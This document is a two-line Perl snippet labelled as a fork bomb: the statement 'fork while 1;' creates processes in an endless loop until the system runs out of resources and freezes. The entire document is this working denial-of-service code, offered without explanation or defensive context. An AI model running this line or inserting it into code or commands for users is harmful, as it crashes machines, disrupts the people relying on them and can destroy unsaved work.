# Perl's fork bomb.
fork while 1;
